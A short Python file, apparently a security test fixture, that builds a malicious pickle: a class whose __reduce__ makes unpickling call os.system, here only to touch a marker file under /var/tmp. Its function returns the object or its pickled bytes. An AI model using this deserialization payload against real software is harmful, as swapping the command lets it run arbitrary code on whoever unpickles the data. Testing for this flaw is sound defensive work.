"""Returns an object whose unpickling would run code."""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /var/tmp/bon_hydra-attack",)


def f(x):
    return Bomb() if x == 1 else pickle.dumps(Bomb())
